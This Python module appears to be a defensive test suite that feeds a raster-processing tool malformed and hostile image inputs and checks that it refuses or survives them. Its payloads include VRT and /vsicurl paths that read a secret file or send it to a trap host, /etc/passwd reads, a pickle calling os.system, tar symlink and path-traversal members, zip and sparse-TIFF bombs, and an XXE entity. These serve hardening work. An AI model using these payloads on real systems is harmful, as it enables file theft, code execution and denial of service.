"""Images as they come out of a broken transfer, a careless export or a hostile hand."""

from __future__ import annotations

import os
import struct
import tarfile
import zipfile
from io import BytesIO
from pathlib import Path

import numpy as np
import rasterio
from affine import Affine

from .cases import HANDLED, REFUSED, add, handled, refused
from .ground import EAST, NORTH, PIXEL_M, PLACE, SIDE_PX, Ground, pixels, write_image

KIND = "rasters"


def _raw_vrt(ground: Ground, side: int = SIDE_PX, source: str = "") -> str:
    where = source or str(ground.secret)
    band = (
        f'<VRTRasterBand dataType="Byte" band="{{0}}" subClass="VRTRawRasterBand"><SourceFilename relativetoVRT="0">{where}'
        f"</SourceFilename><ImageOffset>0</ImageOffset><PixelOffset>1</PixelOffset><LineOffset>{side}</LineOffset>"
        "</VRTRasterBand>"
    )
    place = f"<GeoTransform>{EAST}, {PIXEL_M}, 0, {NORTH}, 0, -{PIXEL_M}</GeoTransform><SRS>EPSG:4548</SRS>"
    bands = "".join(band.format(n) for n in (1, 2, 3))
    return f'<VRTDataset rasterXSize="{side}" rasterYSize="{side}">{place}{bands}</VRTDataset>'


def _wms(ground: Ground) -> str:
    return (
        f'<GDAL_WMS><Service name="TMS"><ServerUrl>{ground.trap}/${{z}}/${{x}}/${{y}}.png</ServerUrl></Service>'
        "<DataWindow><UpperLeftX>0</UpperLeftX><UpperLeftY>0</UpperLeftY><LowerRightX>1</LowerRightX>"
        "<LowerRightY>1</LowerRightY><TileLevel>1</TileLevel></DataWindow><BandsCount>3</BandsCount></GDAL_WMS>"
    )


def with_image(ground: Ground, path: Path | str, command: str = "check") -> list[str]:
    """The command line of a run whose later image lies at ``path``."""
    return ground.config(source=ground.files(path), command=command)


def _spoiled(ground: Ground, **profile: object) -> list[str]:
    """A run whose later image differs from the sound one in these properties."""
    data = profile.pop("data", None)
    return with_image(ground, write_image(ground.folder / "after.tif", data, **profile), "run")  # type: ignore[arg-type]


for _name, _content in (
    ("a vrt of a file", _raw_vrt),
    ("a vrt of the web", lambda g: _raw_vrt(g, source=f"/vsicurl/{g.trap}/x")),
    ("a wms", _wms),
    ("text", lambda _: "this is no image"),
    ("a login page", lambda _: "<!DOCTYPE html><html>sign in</html>"),
    ("empty", lambda _: ""),
    ("a header alone", lambda _: b"II*\x00\x08\x00\x00\x00"),
    ("magic before a vrt", lambda g: b"II*\x00" + _raw_vrt(g).encode()),
    ("zeros", lambda _: b"II*\x00" + bytes(5000)),
    ("a png", lambda _: b"\x89PNG\r\n\x1a\n" + bytes(2000)),
    ("a pickle", lambda _: b"\x80\x04\x95cposix\nsystem\n(S'touch escaped'\ntR."),
    ("a directory in a circle", lambda _: b"II*\x00\x08\x00\x00\x00" + struct.pack("<HHHIII", 1, 256, 3, 1, 16, 8)),
):
    add(KIND, f"{_name} named tif",
        lambda ground, c=_content: with_image(ground, ground.file("after.tif", c(ground))), REFUSED, "after.tif")  # fmt: skip

for _name, _path in (
    ("vsicurl", "/vsicurl/{trap}/a.tif"),
    ("a header file sent away", "/vsicurl?header_file={secret}&url={trap}/a.tif"),
    ("vrt in the path", "vrt://{secret}"),
    ("xml for a path", "<VRTDataset></VRTDataset>"),
    ("plain http", "{trap}/a.tif"),
    ("file address", "file://{secret}"),
    ("gtiff_dir", "GTIFF_DIR:1:{secret}"),
    ("a password file", "/etc/passwd"),
    ("a device", "/dev/zero"),
    ("a path too long", "{base}/" + "a" * 5000 + ".tif"),
    ("a glob over the machine", "/nowhere/*.tif"),
):
    add(KIND, _name, lambda ground, p=_path: with_image(
        ground, p.format(trap=ground.trap, base=ground.base, secret=ground.secret)), REFUSED)  # fmt: skip


@refused(KIND, "after.tif")
def _a_pipe_for_an_image(ground: Ground) -> list[str]:
    os.mkfifo(ground.folder / "after.tif")
    return with_image(ground, ground.folder / "after.tif")


for _suffix in (".ovr", ".msk"):

    def _beside(ground: Ground, suffix: str = _suffix) -> list[str]:
        path = write_image(ground.folder / "after.tif", pixels(3))
        ground.file(f"after.tif{suffix}", _raw_vrt(ground, SIDE_PX // 2 if suffix == ".ovr" else SIDE_PX))
        return with_image(ground, path, "run")

    add(KIND, f"a vrt named {_suffix} beside an image", _beside, REFUSED, f"after.tif{_suffix}")


@handled(KIND, "km observed")
def _an_aux_xml_that_leads_away(ground: Ground) -> list[str]:
    path = write_image(ground.folder / "after.tif", pixels(3))
    leading = f'<MDI key="OVERVIEW_FILE">/vsicurl/{ground.trap}/o.tif</MDI>'
    ground.file("after.tif.aux.xml", f'<PAMDataset><Metadata domain="OVERVIEWS">{leading}</Metadata></PAMDataset>')
    return with_image(ground, path, "run")


@refused(KIND, "after.tif", "overviews")
def _metadata_that_lead_to_a_file(ground: Ground) -> list[str]:
    path = write_image(ground.folder / "after.tif", pixels(3))
    vrt = ground.file("x.vrt", _raw_vrt(ground, SIDE_PX // 2))
    with rasterio.open(path, "r+") as out:
        out.update_tags(ns="OVERVIEWS", OVERVIEW_FILE=str(vrt))
    return with_image(ground, path, "run")


@refused(KIND, "after.tif", "overviews")
def _metadata_that_lead_to_the_web(ground: Ground) -> list[str]:
    path = write_image(ground.folder / "after.tif", pixels(3))
    with rasterio.open(path, "r+") as out:
        out.update_tags(ns="OVERVIEWS", OVERVIEW_FILE=f"/vsicurl/{ground.trap}/o.tif")
    return with_image(ground, path, "run")


_TAGS = {"width": 256, "length": 257, "rows": 278, "tile_width": 322, "tile_length": 323, "bands": 277, "bits": 258}


def _patched(path: Path, **values: int) -> Path:
    """Numbers in the first directory of a little-endian TIFF overwritten."""
    data = bytearray(path.read_bytes())
    at = struct.unpack("<I", data[4:8])[0]
    for n in range(struct.unpack("<H", data[at : at + 2])[0]):
        start = at + 2 + 12 * n
        tag = struct.unpack("<H", data[start : start + 2])[0]
        for name, value in values.items():
            if tag == _TAGS[name]:
                data[start + 2 : start + 12] = struct.pack("<HII", 4, 1, value)
    path.write_bytes(data)
    return path


for _name, _values, _ends in (
    ("a million pixels a side", {"width": 1_000_000, "length": 1_000_000}, HANDLED),
    ("as wide as numbers go", {"width": 2**31 - 1, "length": 2**31 - 1}, REFUSED),
    ("no width", {"width": 0}, REFUSED),
    ("blocks of a million pixels", {"tile_width": 1_048_576, "tile_length": 1_048_576}, HANDLED),
    ("blocks of nothing", {"tile_width": 0}, REFUSED),
    ("sixty thousand bands", {"bands": 60_000}, REFUSED),
):

    def _declared(ground: Ground, values: dict = _values) -> list[str]:
        path = write_image(ground.folder / "after.tif", pixels(3))
        return with_image(ground, _patched(path, **values), "run")

    add(KIND, f"declares {_name}", _declared, _ends, "after.tif")


@handled(KIND, "after.tif", "read_failure")
def _a_sparse_bomb(ground: Ground) -> list[str]:
    """A file of some kilobytes that declares a terabyte of pixels, none of them written, under the whole road."""
    path = ground.folder / "after.tif"
    with rasterio.open(
        path, "w", driver="GTiff", width=1_000_000, height=1_000_000, count=3, dtype="uint8", crs="EPSG:4548",
        transform=Affine(PIXEL_M / 1000, 0, EAST, 0, -PIXEL_M / 1000, NORTH), SPARSE_OK=True, BIGTIFF="YES", tiled=True,
        blockxsize=65_536, blockysize=65_536, compress="deflate", interleave="pixel",
    ):  # fmt: skip
        pass
    return with_image(ground, path, "run")


def _cut(ground: Ground, share: float) -> list[str]:
    data = (ground.base / "after.tif").read_bytes()
    return with_image(ground, ground.file("after.tif", data[: int(len(data) * share)]), "run")


for _share in (0.02, 0.3, 0.7, 0.97):
    add(KIND, f"cut at {_share:.0%}", lambda ground, s=_share: _cut(ground, s), HANDLED, "after.tif", "read_failure")


@handled(KIND, "after.tif", "read_failure")
def _blocks_overwritten_with_noise(ground: Ground) -> list[str]:
    data = bytearray((ground.base / "after.tif").read_bytes())
    middle = len(data) // 4
    data[middle:-20_000] = np.random.default_rng(1).bytes(len(data) - middle - 20_000)
    return with_image(ground, ground.file("after.tif", bytes(data)), "run")


for _name, _profile, _ends, _says in (
    ("complex numbers", {"data": pixels()[:1].astype("complex64").repeat(3, 0)}, REFUSED, "after.tif"),
    ("int8", {"data": (pixels(3) // 2).astype("int8")}, REFUSED, "after.tif"),
    ("floats of nan", {"data": np.full((3, SIDE_PX, SIDE_PX), np.nan, "float32")}, REFUSED, "after.tif"),
    ("one band of three", {"data": pixels(3)[:1]}, REFUSED, "after.tif"),
    ("no coordinate system", {"crs": None}, REFUSED, "after.tif"),
    ("no place", {"transform": Affine.identity()}, REFUSED, "after.tif"),
    ("a pixel of no size", {"transform": Affine(0, 0, EAST, 0, 0, NORTH)}, REFUSED, "after.tif"),
    ("pixels of nan", {"transform": Affine(np.nan, 0, EAST, 0, -0.5, NORTH)}, REFUSED, "after.tif"),
    ("pixels of infinity", {"transform": Affine(np.inf, 0, EAST, 0, -0.5, NORTH)}, REFUSED, "after.tif"),
    ("axes exchanged", {"transform": Affine(PIXEL_M, 0, NORTH, 0, -PIXEL_M, EAST)}, REFUSED, ""),
    ("degrees called metres", {"transform": Affine(5e-6, 0, 117.0, 0, -5e-6, 34.3)}, REFUSED, ""),
    ("metres called degrees", {"crs": "EPSG:4490"}, REFUSED, "after.tif"),
    ("on the moon", {"crs": "+proj=longlat +R=1737400 +no_defs"}, REFUSED, "after.tif"),
    ("nodata of nan", {"nodata": None}, HANDLED, "km observed"),
    ("rotated", {"transform": PLACE @ Affine.rotation(7)}, HANDLED, "km observed"),
    (
        "south up",
        {"transform": Affine(PIXEL_M, 0, EAST, 0, PIXEL_M, NORTH - SIDE_PX * PIXEL_M)},
        HANDLED,
        "km observed",
    ),
    ("constant", {"data": np.full((3, SIDE_PX, SIDE_PX), 90, np.uint8)}, HANDLED, "not observed"),
    ("all nodata", {"data": np.zeros((3, SIDE_PX, SIDE_PX), np.uint8), "nodata": 0}, HANDLED, "not observed"),
    ("strips of one line", {"tiled": False, "blockysize": 1}, HANDLED, "km observed"),
):
    add(KIND, _name, lambda ground, p=_profile: _spoiled(ground, **p), _ends, *([_says] if _says else []))


def _archived(ground: Ground, name: str, data: bytes) -> list[str]:
    return with_image(ground, ground.file(name, data), "run")


def _tar(members: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    out = BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for info, data in members:
            info.size = len(data)
            archive.addfile(info, BytesIO(data))
    return out.getvalue()


def _member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


for _name, _info in (
    ("climbs out", _member("../escaped.tif")),
    ("is absolute", _member("/var/escaped.tif")),
    ("is a link", _member("a.tif", tarfile.SYMTYPE, "/etc/passwd")),
    ("is a hard link", _member("a.tif", tarfile.LNKTYPE, "../../secret/secret.txt")),
    ("is a device", _member("a.tif", tarfile.CHRTYPE)),
    ("is a pipe", _member("a.tif", tarfile.FIFOTYPE)),
):
    add(KIND, f"a tar whose member {_name}",
        lambda ground, i=_info: _archived(ground, "a_20241010.tar.gz", _tar([(i, b"" if i.issym() else b"II*\x00")])),
        REFUSED, "a_20241010.tar.gz")  # fmt: skip


def _zip(*members: tuple[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


for _name, _members in (
    ("climbs out", [("../escaped.tif", b"II*\x00")]),
    ("holds a vrt", None),
    ("holds nothing", []),
    ("holds no image", [("a.txt", b"hello")]),
    ("unpacks to gigabytes", [("a.tif", b"II*\x00" + bytes(150_000_000))]),
    ("holds a name twice", [("a.tif", b"II*\x00"), ("./a.tif", b"II*\x00")]),
):
    add(KIND, f"a zip that {_name}",
        lambda ground, m=_members: _archived(
            ground, "a_20241010.zip",
            _zip(*([("a.tif", _raw_vrt(ground).encode())] if m is None else m))),
        REFUSED, "a_20241010")  # fmt: skip


@refused(KIND, "a_20241010.zip", "max_unpacked_gb")
def _a_zip_that_claims_more_than_is_allowed(ground: Ground) -> list[str]:
    data = _zip(("a.tif", b"II*\x00" + bytes(3_000_000)))
    path = ground.file("a_20241010.zip", data)
    source = ground.files(path).replace("{kind: files", "{kind: files, max_unpacked_gb: 0.001")
    return ground.config(source=source, command="run")


@refused(KIND, "after.xml")
def _a_description_with_entities(ground: Ground) -> list[str]:
    path = write_image(ground.folder / "after.tif", pixels(3))
    entity = f'<!DOCTYPE p [<!ENTITY f SYSTEM "{ground.secret}">]>'
    ground.file(
        "after.xml", f'<?xml version="1.0"?>{entity}<ProductMetaData><ReceiveTime>&f;</ReceiveTime></ProductMetaData>'
    )
    return with_image(ground, path, "run")
